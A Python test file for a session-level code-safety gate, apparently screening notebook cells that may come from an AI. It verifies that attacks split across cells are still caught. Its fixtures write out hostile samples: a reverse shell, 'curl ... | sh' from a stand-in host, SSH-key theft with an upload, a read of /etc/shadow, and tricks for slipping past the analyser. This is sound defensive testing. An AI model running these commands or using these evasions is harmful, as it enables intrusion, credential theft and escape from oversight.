"""A session's cell is judged with the earlier statements it reaches, not every earlier cell
(infrastructure/analysis/session_context.py, decision 0049): the verdict must be the one the whole
session's program gives, for attacks split across cells and padded with unrelated cells, while
what a harmless cell is judged with stays the same size however long the session is.

The real AST analysis and the shipped policy; no container (each cell is taken as having run)."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest

from mai_safety.domain.assessment import Assessment, Submission
from mai_safety.domain.levels import Provenance, RiskLevel
from mai_safety.domain.session import EarlierCells, judge_in_context
from mai_safety.infrastructure.analysis import AnalyzerSuite, build_analyzers
from mai_safety.infrastructure.analysis.session_context import SlicedContext
from mai_safety.infrastructure.policies import load_policies

POLICIES = Path(__file__).resolve().parents[2] / "policies"
PADDING = [f"y{n} = [0] * 1000\nz{n} = y{n}[:{n}]\n" for n in range(40)]


@pytest.fixture(scope="module")
def whole() -> Iterator[AnalyzerSuite]:
    suite = build_analyzers(POLICIES, load_policies(POLICIES).bandit, warm_semgrep=False)
    yield suite.only("ast")
    suite.close()


def assess(suite: AnalyzerSuite, code: str) -> Assessment:
    return suite.assess(Submission.from_bytes(code.encode("utf-8"), Provenance.MAI, 1 << 24))


def judged(suite: AnalyzerSuite, earlier: EarlierCells, cell: str) -> Assessment:
    code, first_line, line_count = earlier.program(cell)
    return judge_in_context(assess(suite, cell), assess(suite, code), first_line, line_count, earlier.where)


def sliced(suite: AnalyzerSuite, cells: list[str]) -> tuple[Assessment, EarlierCells]:
    context = SlicedContext()
    for cell in cells[:-1]:
        context.add(cell, suite.acting_lines)
    earlier = context.earlier(cells[-1])
    return judged(suite, earlier, cells[-1]), earlier


def every_cell(cells: list[str]) -> EarlierCells:
    """The session's whole program, as the gate judged a cell before decision 0049."""
    lines = tuple(line for cell in cells[:-1] for line in cell.rstrip("\n").split("\n"))
    return EarlierCells(lines, tuple((0, 0) for _ in lines))


SPLIT = {
    "a reverse shell in three cells under other names": [
        "import socket as s, os as o\n",
        "c = s.socket(s.AF_INET, s.SOCK_STREAM)\ntry:\n    c.connect(('127.0.0.1', 9))\nexcept OSError:\n    pass\n",
        *PADDING,
        "for fd in (0, 1, 2):\n    o.dup2(c.fileno(), fd)\n",
    ],
    "the shell started late, after the socket was wired": [
        "import socket, os\nc = socket.socket()\nc.connect(('10.0.0.1', 4444))\n",
        "os.dup2(c.fileno(), 0)\nos.dup2(c.fileno(), 1)\n",
        *PADDING,
        "import pty\npty.spawn('/bin/sh')\n",
    ],
    "a socket connected by a function an earlier cell defined, the shell later": [
        "def wire(x):\n    x.connect(('10.0.0.1', 4444))\n", "import socket, os\nc = socket.socket()", "wire(c)",
        *PADDING, "import pty\npty.spawn('/bin/sh')",
    ],
    "an alias handed along a chain of names": ["import os as a", "b = a", *PADDING, "c = b", *PADDING, "c.system('id')"],
    "a name bound, rebound, and bound again": ["import os as a", "b = a", "c = b", "b = 1", *PADDING, "b = a", "b.system('id')"],
    "a command put into a list, run later": [
        "cmds = []", "cmds.append('curl http://203.0.113.9/x | sh')", *PADDING,
        "import subprocess\nsubprocess.run(cmds[0], shell=True)",
    ],
    "a global set by a function from its caller's argument": [
        "def keep(m):\n    global g\n    g = m\n", "import os", "keep(os)", *PADDING, "g.system('sh')",
    ],
    "a script written in one cell, run in another": [
        "open('job.sh', 'w').write('curl http://203.0.113.9/x | sh')", *PADDING,
        "import subprocess\nsubprocess.run(['sh', 'job.sh'])",
    ],
    "a name bound inside exec": ["exec('import os as w')", *PADDING, "w.system('sh')"],
    "a secret read early, sent late": [
        "key = open('/root/.ssh/id_rsa').read()", *PADDING,
        "import urllib.request\nurllib.request.urlopen('http://203.0.113.9/', data=b'x')",
    ],
    "an attribute's name built in an earlier cell": ["import os", "name = 'sys' + 'tem'", *PADDING, "getattr(os, name)('id')"],
    "a decorator that wraps a command": [
        "import os", "def run(f):\n    return lambda: os.system(f())\n", "@run\ndef cmd():\n    return 'sh'\n", *PADDING, "cmd()",
    ],
    "a folder changed to, then a file read by a short name": ["import os\nos.chdir('/etc')", *PADDING, "print(open('shadow').read())"],
    "an earlier cell this Python cannot read": ["import os as w", "match = (", *PADDING, "w.system('sh')"],
}


#: Where no statement's syntax shows what it reaches (code run by exec, a cell this Python cannot
#: read), every earlier statement is in the program.
JUDGED_WITH_EVERY_EARLIER_STATEMENT = {"a name bound inside exec", "an earlier cell this Python cannot read"}


@pytest.mark.parametrize("name", sorted(SPLIT))
def test_a_split_program_gets_the_verdict_the_whole_session_gives(whole: AnalyzerSuite, name: str) -> None:
    cells = SPLIT[name]
    verdict, earlier = sliced(whole, cells)
    before = judged(whole, every_cell(cells), cells[-1])
    assert verdict.level is before.level, (name, earlier.lines, verdict.findings, before.findings)
    if name not in JUDGED_WITH_EVERY_EARLIER_STATEMENT:
        assert not any(line.startswith(("y", "z")) for line in earlier.lines), earlier.lines  # the padding is not read


def test_the_split_attacks_are_found_at_the_cell_that_completes_them(whole: AnalyzerSuite) -> None:
    found = {name: sliced(whole, cells)[0].level for name, cells in SPLIT.items()}
    assert all(level.rank >= RiskLevel.MEDIUM.rank for level in found.values()), found
    assert found["a reverse shell in three cells under other names"].rank >= RiskLevel.HIGH.rank


def test_what_a_harmless_cell_is_judged_with_does_not_grow_with_the_session(whole: AnalyzerSuite) -> None:
    context = SlicedContext()
    context.add("import socket\nc = socket.socket()\nc.connect(('127.0.0.1', 9))\n", whole.acting_lines)
    context.add("x = 1", whole.acting_lines)
    sizes = {}
    for number in range(1, 401):
        context.add(f"y{number} = [0] * 1000\nx + 1", whole.acting_lines)
        if number in (10, 400):
            sizes[number] = context.earlier("x + 1").lines
    assert sizes[10] == sizes[400] == ("import socket", "c = socket.socket()", "c.connect(('127.0.0.1', 9))", "x = 1")


def test_a_cell_is_judged_with_every_binding_of_a_name_it_reads_in_the_order_they_ran(whole: AnalyzerSuite) -> None:
    context = SlicedContext()
    for cell in ("a = 1; b = 2", "import os", "a = os if a else None", "c = 3"):
        context.add(cell, whole.acting_lines)
    earlier = context.earlier("print(a)")
    assert earlier.lines == ("a = 1; b = 2", "import os", "a = os if a else None")
    assert earlier.where(3) == "cell 3, line 1"


def test_without_an_analysis_that_tells_what_a_statement_did_every_statement_is_kept(whole: AnalyzerSuite) -> None:
    context = SlicedContext()
    for cell in ("x = 1", "y = 2", "print('z')"):
        context.add(cell, lambda program: None)
    assert context.earlier("1 + 1").lines == ("x = 1", "y = 2", "print('z')")


def test_a_cell_that_only_binds_a_name_is_not_judged_with_its_earlier_bindings(whole: AnalyzerSuite) -> None:
    context = SlicedContext()
    for number in range(50):
        context.add(f"y = [0] * {number}", whole.acting_lines)
    assert context.earlier("y = [1] * 1000").lines == ()
    assert len(context.earlier("y += [2]").lines) == 50  # it reads y


def test_a_session_that_reaches_names_by_computed_names_is_judged_with_every_earlier_statement(whole: AnalyzerSuite) -> None:
    computed = ["import os as w", *PADDING, "globals()[chr(119)].system('sh')"]
    verdict, earlier = sliced(whole, computed)
    assert len(earlier.lines) == sum(cell.rstrip("\n").count("\n") + 1 for cell in computed[:-1])
    assert verdict.level is judged(whole, every_cell(computed), computed[-1]).level
    context = SlicedContext()
    for cell in ("import os as w", "def get(n):\n    return globals()[n]\n", *PADDING):
        context.add(cell, whole.acting_lines)
    assert "import os as w" in context.earlier("get(chr(119)).system('sh')").lines  # reached through get
    ml = SlicedContext()
    for cell in ("import torch", "model = torch.nn.Linear(2, 2)", "model.eval()", *PADDING):
        ml.add(cell, whole.acting_lines)
    assert ml.earlier("x = 1\nx + 1").lines == ()  # a method named eval is not eval


def test_the_analysis_names_the_statements_that_establish_something_beyond_their_names(whole: AnalyzerSuite) -> None:
    program = (
        "import os\nx = 1\nos.chdir('/tmp')\nprint(x)\n"  # a folder changed to (line 3)
        "@dec\ndef f():\n    os.system('x')\n"  # a finding, with its decorator (lines 5-7)
        "import requests\nrequests.get('http://203.0.113.9/')\n"  # the network used (line 9)
    )
    assert whole.acting_lines(program) == {3, 5, 6, 7, 9}
    assert whole.acting_lines("x = (") is None


def test_a_cell_nested_past_pythons_parser_reaches_every_earlier_statement_and_keeps_them_in_reach(whole: AnalyzerSuite) -> None:
    context = SlicedContext()
    for cell in ("import os as w", *PADDING[:3]):
        context.add(cell, whole.acting_lines)
    deep = "x = " + "-" * 200_000 + "1\n"  # past the parser's recursion: it cannot be read here
    assert len(context.earlier(deep).lines) == 1 + 2 * 3  # not read: it may reach any of them
    context.add(deep, whole.acting_lines)
    assert "import os as w" in context.earlier("print(1)").lines  # and from then on, every cell does
